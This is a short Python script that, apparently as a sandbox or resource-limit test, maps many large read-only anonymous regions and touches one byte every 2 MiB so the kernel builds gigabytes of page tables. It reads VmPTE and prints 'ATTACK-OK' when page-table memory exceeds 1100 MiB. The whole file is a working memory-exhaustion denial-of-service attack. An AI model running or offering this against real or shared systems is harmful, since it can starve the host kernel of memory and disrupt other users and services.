# page tables of mappings that are only read, one page each two MiB
import mmap, os, time

keep, span = [], 1 << 32
try:
    for _ in range(600):
        area = mmap.mmap(-1, span, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
        area.madvise(15)  # no huge pages
        keep.append(area)
        for at in range(0, span, 1 << 21):
            area[at]
except (OSError, MemoryError) as error:
    print("stopped", error)
tables = [int(line.split()[1]) >> 10 for line in open("/proc/self/status") if line.startswith("VmPTE")][0]
time.sleep(0.5)
print("tables MiB", tables, "ATTACK-OK" if tables > 1100 else "", flush=True)
